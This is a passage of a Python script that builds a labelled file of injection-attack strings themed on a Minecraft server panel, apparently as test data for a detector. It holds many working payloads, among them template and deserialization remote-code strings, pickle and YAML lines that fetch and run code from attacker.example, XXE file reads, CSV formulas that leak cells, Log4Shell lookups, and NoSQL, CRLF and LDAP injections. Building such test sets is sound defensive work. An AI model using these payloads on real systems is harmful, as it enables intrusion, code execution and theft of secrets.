    ("ticket-freemarker-execute", '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}'),
    ("ticket-velocity-runtime", "#set($rt=$class.inspect('java.lang.Runtime').type.getRuntime())$rt.exec('id')"),
    ("panel-lang-thymeleaf-spel", "__${T(java.lang.Runtime).getRuntime().exec('id')}__::.x"),
    ("motd-spel", "#{T(java.lang.Runtime).getRuntime().exec('curl attacker.example')}"),
    ("panel-param-ognl", "%{(#rt=@java.lang.Runtime@getRuntime()).(#rt.exec('id'))}"),
    ("ticket-java-el-reflection", "${''.getClass().forName('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('id')}"),
    ("ticket-twig-filter", "{{['id']|filter('system')}}"),
    ("ticket-smarty-tag", "{system('id')}"),
    ("ticket-erb-backtick", "<%= `id` %>"),
    ("ticket-ejs-child-process", "<%= global.process.mainModule.require('child_process').execSync('id') %>"),
    ("ticket-pug-interpolation", "#{global.process.mainModule.require('child_process').execSync('id')}"),
    ("ticket-nunjucks-range-constructor", "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}"),
    ("ticket-tornado-import", "{% import os %}{{ os.popen('id').read() }}"),
    ("ticket-django-settings", "{{ settings.SECRET_KEY }}"),
    ("appeal-python-format-string", "{user.__init__.__globals__[CONFIG][SECRET_KEY]}"),
    ("yaml-snakeyaml-scriptengine", '!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://attacker.example/y.jar"]]]]'),
    ("yaml-pyyaml-apply", 'motd: !!python/object/apply:os.system ["curl attacker.example/p | sh"]'),
    ("yaml-pyyaml-new", 'settings: !!python/object/new:subprocess.check_output [["id"]]'),
    ("yaml-snakeyaml-jdbcrowset", "!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: ldap://attacker.example:1389/Exploit\n  autoCommit: true"),
    ("session-python-pickle", "cos\nsystem\n(S'curl attacker.example/p|sh'\ntR."),
    ("session-python-pickle+base64", "Y29zCnN5c3RlbQooUydjdXJsIGF0dGFja2VyLmV4YW1wbGUvcHxzaCcKdFIu"),
    ("session-php-object", 'O:8:"Backdoor":1:{s:3:"cmd";s:2:"id";}'),
    ("jsontext-node-serialize-iife", '{"rce":"_$$ND_FUNC$$_function(){require(\'child_process\').exec(\'id\')}()"}'),
    ("panel-json-dotnet-typename", '{"$type":"System.Windows.Data.ObjectDataProvider, PresentationFramework","MethodName":"Start","ObjectInstance":{"$type":"System.Diagnostics.Process, System"},"MethodParameters":{"$type":"System.Collections.ArrayList, mscorlib","$values":["cmd","/c whoami"]}}'),
    ("panel-json-jackson-polymorphic", '["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://attacker.example:1389/j","autoCommit":true}]'),
    ("panel-json-fastjson-autotype", '{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example:1099/f","autoCommit":true}'),
    ("warp-export-xxe-file", '<?xml version="1.0"?>\n<!DOCTYPE warp [<!ENTITY x SYSTEM "file:///opt/minecraft/server.properties">]>\n<warp><name>&x;</name></warp>'),
    ("region-import-xxe-oob", '<?xml version="1.0"?>\n<!DOCTYPE r [<!ENTITY % d SYSTEM "http://attacker.example/x.dtd"> %d;]>\n<r/>'),
    ("region-import-xinclude", '<region xmlns:xi="http://www.w3.org/2001/XInclude"><xi:include parse="text" href="file:///etc/passwd"/></region>'),
    ("skin-svg-xxe", '<!DOCTYPE svg [<!ENTITY e SYSTEM "file:///etc/hostname">]><svg xmlns="http://www.w3.org/2000/svg"><text>&e;</text></svg>'),
    ("warp-export-entity-expansion", '<!DOCTYPE l [<!ENTITY a "creeper"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">]><l>&d;&d;&d;&d;</l>'),
    ("jsontext-proto-pollution", '{"text":"hi","__proto__":{"isAdmin":true}}'),
    ("jsontext-constructor-prototype", '{"text":"x","constructor":{"prototype":{"shell":"/proc/self/exe","NODE_OPTIONS":"--require /proc/self/environ"}}}'),
    ("panel-query-proto-pollution", "settings[__proto__][isOp]=true"),
    ("panel-path-proto-ejs-gadget", "__proto__.outputFunctionName=x;process.mainModule.require('child_process').execSync('id');//"),
    ("ban-reason-csv-hyperlink", '=HYPERLINK("http://attacker.example/?d="&A2&B2,"Appeal here")'),
    ("shop-item-csv-dde", "=cmd|' /C powershell -c iwr attacker.example/c'!A0"),
    ("nick-csv-at-dde", "@SUM(1+9)*cmd|' /C whoami'!A1"),
    ("appeal-csv-minus-dde", "-2+3+cmd|' /C curl attacker.example/x'!A0"),
    ("town-name-csv-importxml", '=IMPORTXML(CONCAT("http://attacker.example/?",A1:C20),"//a")'),
    ("player-name-csv-webservice", '=WEBSERVICE("http://attacker.example/leak?"&B3)'),
    ("command-calc-python-eval", "/calc __import__('os').popen('id').read()"),
    ("command-calc-js-eval", "/calc this.constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()"),
    ("chat-skript-effect-command", '!execute console command "op Griefer123"'),
    ("command-script-nashorn", "/script eval var p=Java.type('java.lang.Runtime').getRuntime().exec('id');"),
    ("ticket-groovy-execute", '"id".execute().text'),
    ("ticket-mvel-template", "@{Runtime.getRuntime().exec('id')}"),
    ("command-lua-os-execute", "/lua os.execute('curl attacker.example|sh')"),
    ("shop-name-php-eval-break", "');system('id');//"),
    ("ticket-ruby-interpolation", "#{`id`}"),
    ("ticket-jinja-getitem+unicode-escape", r"{{ ''['\u005f\u005fclass\u005f\u005f'] }}"),
    ("plain-jinja-probe", "{{7*'7'}}"),
    ("plain-log4shell", "${jndi:ldap://203.0.113.77:389/cb}"),
    ("plain-el-probe", "#{7*191}"),
    ("plain-yaml-python", "!!python/object/apply:os.system ['id']"),
    ("plain-proto-pollution", '{"__proto__":{"polluted":"yes"}}'),
    ("plain-csv-dde", "=cmd|'/C whoami'!A0"),
    ("plain-el-dollar-probe", "${7*7}"),
]

# ---------------------------------------------------------------- nosqli
NOSQLI = [
    ("panel-login-json-ne", '{"username":"Admin_Tom","password":{"$ne":""}}'),
    ("stats-json-regex", '{"player":{"$regex":"^Adm"}}'),
    ("appeal-json-where-sleep", '{"$where":"sleep(5000) || true"}'),
    ("player-name-js-injection", "Steve_2011' || this.rank == 'admin' || 'a'=='b"),
    ("stats-query-bracket-ne", "player[$ne]=nobody"),
    ("panel-login-bracket-gt", "password[$gt]="),
    ("panel-login-bracket-regex", "username[$regex]=^A.*&password[$ne]=x"),
    ("stats-json-or", '{"$or":[{"rank":"admin"},{"rank":{"$exists":true}}]}'),
    ("session-json-exists", '{"token":{"$exists":true}}'),
    ("player-name-where-timing", "x'; return this.password.startsWith('a') && sleep(3000); var d='"),
    ("stats-aggregate-lookup", '[{"$lookup":{"from":"users","localField":"owner","foreignField":"name","as":"u"}}]'),
    ("stats-expr-function", '{"$expr":{"$function":{"body":"function(){sleep(4000);return true}","args":[],"lang":"js"}}}'),
    ("snbt-operator-ne", "{password:{$ne:1}}"),
    ("player-name-regex-redos", '{"name":{"$regex":"^(a+)+$"}}'),
    ("claim-coords-gt", '{"x":{"$gt":-30000000},"z":{"$gt":-30000000},"owner":{"$ne":null}}'),
    ("plain-ne", '{"$ne": null}'),
    ("plain-gt", '{"$gt": ""}'),
    ("stats-couchdb-selector", '{"selector":{"_id":{"$gt":null}},"fields":["password"]}'),
    ("stats-query-bracket+url", "player%5B%24ne%5D=x"),
    ("search-lucene-query", "player:* OR rank:admin"),
    ("player-name-operator+unicode-escape", '{"name":{"\\u0024ne":"x"}}'),
    ("appeal-json-where-true", '{"$where":"return true"}'),
    ("plain-regex", '{"$regex": ".*"}'),
    ("plain-js-or", "' || '1'=='1"),
]

# ---------------------------------------------------------------- crlf
CRLF = [
    ("console-log-fake-op", "Steve\r\n[12:00:00] [Server thread/INFO]: Made Griefer123 a server operator"),
    ("chat-log-forge-command", "gg\n[14:23:01] [Server thread/INFO]: CONSOLE issued server command: /op Griefer123"),
    ("resourcepack-url-set-cookie+url", "https://packs.example.org/p.zip%0d%0aSet-Cookie:%20panel_session=attacker"),
    ("skin-redirect-location+url", "/skin/Steve%0D%0ALocation:%20https://attacker.example/"),
    ("ticket-mail-bcc", "Lag at spawn\r\nBcc: everyone@survivalcraft.example\r\n\r\nFree VIP at https://attacker.example"),
    ("appeal-mail-from", "Kai\nFrom: admin@survivalcraft.example\nSubject: Your account was banned"),
    ("header-response-split+url", "%0d%0aContent-Length:%200%0d%0a%0d%0aHTTP/1.1%20200%20OK%0d%0aContent-Type:%20text/html%0d%0a%0d%0a<script>alert(1)</script>"),
    ("console-ansi-escape", "Steve\x1b[2K\r[INFO] Admin_Tom: lol ignore that"),
    ("header-xff+url2", "x%250d%250aX-Forwarded-For:%20127.0.0.1"),
    ("console-log+unicode-line-separator", "Steve\u2028[Server thread/INFO]: Steve has been whitelisted"),
    ("webhook-username-header", "Minecraft-Bot\r\nAuthorization: Bot PLACEHOLDER_TOKEN"),
    ("yaml-value-newline-keys", "&aWelcome\nop-on-join: true\nallow-flight: true"),
    ("server-properties-motd-newline", "A Minecraft Server\nenable-rcon=true\nrcon.password=PLACEHOLDER\nrcon.port=25575"),
    ("csv-log-newline-row", "Kai,100\nAdmin_Tom,-99999"),
    ("log-json-field-break", 'spam","unbanned":true,"by":"CONSOLE'),
    ("ticket-mail-cc+url", "support%0ACc:%20all-staff@survivalcraft.example"),
    ("locale-header-set-cookie", "en_US\r\nSet-Cookie: role=admin; Path=/"),
    ("chat-log-cr-overwrite", "hi\r[Server thread/INFO]: Kai was banned by Admin_Tom"),
    ("server-host-header-inject", "survival.example.net\r\nX-Original-URL: /admin"),
    ("webhook-newline-mention", "gg\n@everyone free nitro https://attacker.example/nitro"),
    ("console-log-forge+url", "Kai%0a[12:00:00]%20[Server%20thread/WARN]:%20Kai%20was%20kicked%20for%20hacking"),
    ("plain-set-cookie+url", "%0d%0aSet-Cookie:%20x=1"),
    ("plain-header-raw", "\r\nX-Injected: 1"),
    ("appeal-mail-html-body", "Appeal\nContent-Type: text/html\n\n<a href=https://attacker.example>reset password</a>"),
    ("bridge-redis-protocol", "Steve\r\nCONFIG SET dir /tmp\r\n"),
    ("header-set-cookie+overlong", "x%c0%8d%c0%8aSet-Cookie:a=b"),
    ("syslog-forged-entry", "Kai\n<13>May 11 12:00:00 mc sshd[1]: Accepted password for root from 192.0.2.1"),
    ("header-set-cookie+unicode-truncation", "x\u560d\u560aSet-Cookie: s=1"),
    ("plain-location-header", "\r\nLocation: https://attacker.example/"),
    ("plain-lf+url", "%0aX-Injected:%20yes"),
]

# ---------------------------------------------------------------- ldap / xpath
LDAP_XPATH = [
    ("panel-login-ldap-wildcard", "*)(uid=*))(|(uid=*"),
    ("panel-login-ldap-or", "admin)(|(objectClass=*"),
    ("panel-login-ldap-memberof", "*)(memberOf=cn=mc-admins,ou=groups,dc=survivalcraft,dc=example"),
    ("panel-login-ldap-blind-password", "Admin_Tom)(userPassword=a*"),
    ("panel-login-ldap+null-byte", "admin)%00"),
    ("panel-login-ldap+url", "admin%29%28%7C%28uid%3D%2A"),
    ("staff-lookup-ldap-and-true", "Steve_2011)(&)"),
    ("staff-lookup-ldap-description", "x*)(description=*rcon*"),
    ("whitelist-xpath-or", "Steve' or '1'='1"),
    ("whitelist-xpath-count", "Kai' or count(/whitelist/player)>0 or 'a'='b"),
    ("whitelist-xpath-substring", "x' or substring(//player[name='Admin_Tom']/password,1,1)='a' or 'x'='y"),
    ("config-xpath-name", "' or name(/*[1])='config' or '"),
    ("whitelist-xpath-union-nodes", "Kai']|//*|//*['"),
    ("whitelist-xpath-paren", "Kai') or 1=1 or ('a'='a"),
    ("whitelist-xpath-doc-oob", "' or doc('http://attacker.example/x.xml') or '"),
    ("users-xpath-string-length", "' or string-length(//user[1]/pass)=8 or '"),
    ("whitelist-xpath-dquote", 'Steve" or "1"="1'),
    ("plain-ldap", "*)(objectClass=*))(&(objectClass=void"),
    ("plain-xpath", "' or 1=1 or ''='"),
    ("panel-login-ldap-dn-injection", "Steve,ou=admins,dc=survivalcraft,dc=example"),
    ("plain-ldap-wildcard-close", "*)(|(cn=*))"),
    ("plain-xpath-dquote", '" or ""="'),
]

# ---------------------------------------------------------------- templates
PLAYERS = ["Steve_2011", "Lena_K", "Mira", "Pixel_Pete", "redstone_rosa", "Björn_Mines"]
WARPS = ["shop", "arena", "market", "nether_hub", "spawn"]
WORLDS = ["world", "skyblock", "event_arena", "creative_plots"]
SHELL_CMDS = ["id", "uname -a", "cat /etc/passwd", "curl -s attacker.example/t|sh",
              "wget -q -O- 198.51.100.30/s|bash", "sleep 9"]
SHELL_SEPS = [";", "|", "&&", "\n", "||"]
COLORS = ["&a", "&c", "&e", "§b", "&6&l"]
INTERNAL = ["127.0.0.1:25575", "localhost:8123", "10.0.0.7:9000", "[::1]:6379", "169.254.169.254"]


def t_sqli(rng):
    p = rng.choice(PLAYERS + WARPS)
    k = rng.randrange(3)
    if k == 0:
        return "name-time-derived-table", f"{p}' AND (SELECT {rng.randint(1000, 9999)} FROM (SELECT(SLEEP({rng.randint(4, 9)})))a)-- -"
    if k == 1:
        return "warp-union-columns", f"{p}' UNION SELECT {','.join(['NULL'] * rng.randint(2, 6))}-- -"
    v = f"{p}' OR {rng.randint(2, 99)}={rng.randint(2, 99)} OR '1'='1"
    return "name-boolean+url", quote(v, safe="")


def t_xss(rng):
    c = rng.choice(COLORS)
    p = rng.choice(PLAYERS)
    k = rng.randrange(3)
    if k == 0:
        return "chat-img-onerror", f"{c}{p}: <img src=x onerror=alert({rng.randint(2, 999)})>"
    if k == 1:
        return "chat-svg-onload", f"{c}gg <svg onload=fetch('//attacker.example/{rng.randint(100, 999)}')>"
    return "chat-script+url", quote(f"{c}<script>alert('{p}')</script>", safe="&")


def t_cmdi(rng):
    w = rng.choice(WORLDS)
    sep = rng.choice(SHELL_SEPS)
    cmd = rng.choice(SHELL_CMDS)
    name = {";": "semicolon", "|": "pipe", "&&": "and", "\n": "newline", "||": "or"}[sep]
    return f"world-name-{name}", f"{w}_{rng.randint(2, 99)}{sep}{cmd}"


def t_code(rng):
    proto = rng.choice(["ldap", "rmi", "dns", "ldaps"])
    p = rng.choice(PLAYERS)
    return f"chat-log4shell-{proto}", f"{rng.choice(COLORS)}{p} ${{jndi:{proto}://{rng.randint(1, 254)}.log.attacker.example/{rng.randint(10, 99)}}}"


def t_ssrf(rng):
    return "skin-url-internal", f"http://{rng.choice(INTERNAL)}/{rng.choice(['', 'admin', 'api/v1/', 'latest/meta-data/'])}"


CATEGORIES = [
    ("sqli", SQLI, t_sqli, 5),
    ("xss", XSS, t_xss, 4),
    ("cmdi", CMDI, t_cmdi, 6),
    ("traversal", TRAVERSAL, None, 0),
    ("ssrf", SSRF, t_ssrf, 2),
    ("code", CODE, t_code, 4),
    ("nosqli", NOSQLI, None, 0),
    ("crlf", CRLF, None, 0),
    ("ldap-xpath", LDAP_XPATH, None, 0),
]


def main():
    rng = random.Random(SEED)
    rows, seen = [], set()
    report = []
    for cat, literals, tmpl, n_tmpl in CATEGORIES:
        n_lit = 0
        for cls, v in literals:
            if v in seen:
                raise SystemExit(f"duplicate literal in {cat}: {v!r}")
            seen.add(v)
            rows.append((cat, cls, v))
            n_lit += 1
        made = 0
        tries = 0
        while made < n_tmpl:
            tries += 1
            if tries > 1000:
                raise SystemExit(f"template exhausted for {cat}")
            cls, v = tmpl(rng)
            if v in seen:
                continue
            seen.add(v)
            rows.append((cat, cls, v))
            made += 1
        report.append((cat, n_lit + made, n_lit))
    out = []
    for i, (cat, cls, v) in enumerate(rows, 1):
        assert isinstance(v, str) and v and len(v) <= 1800, (cat, v)
        out.append({"id": f"{PREFIX}-{i:05d}", "category": cat, "class": cls,
                    "label": "attack", "value": v})
    benign = Path(__file__).with_name("benign.jsonl")
    if benign.exists():
        with open(benign, encoding="utf-8") as f:
            bvals = {json.loads(line)["value"] for line in f}
        clash = [o["value"] for o in out if o["value"] in bvals]
        if clash:
            raise SystemExit(f"values also in benign.jsonl: {clash[:3]!r}")
    path = Path(__file__).with_name("attacks.jsonl")
    with open(path, "w", encoding="utf-8", newline="\n") as f:
        for o in out:
            f.write(json.dumps(o, ensure_ascii=False) + "\n")
    total_lit = 0
    for cat, n, lit in report:
        print(f"{cat:12s} {n:4d}  literals {lit}")
        total_lit += lit
    print(f"{'total':12s} {len(out):4d}  literals {total_lit} ({100 * total_lit / len(out):.1f}%)")


if __name__ == "__main__":
    main()
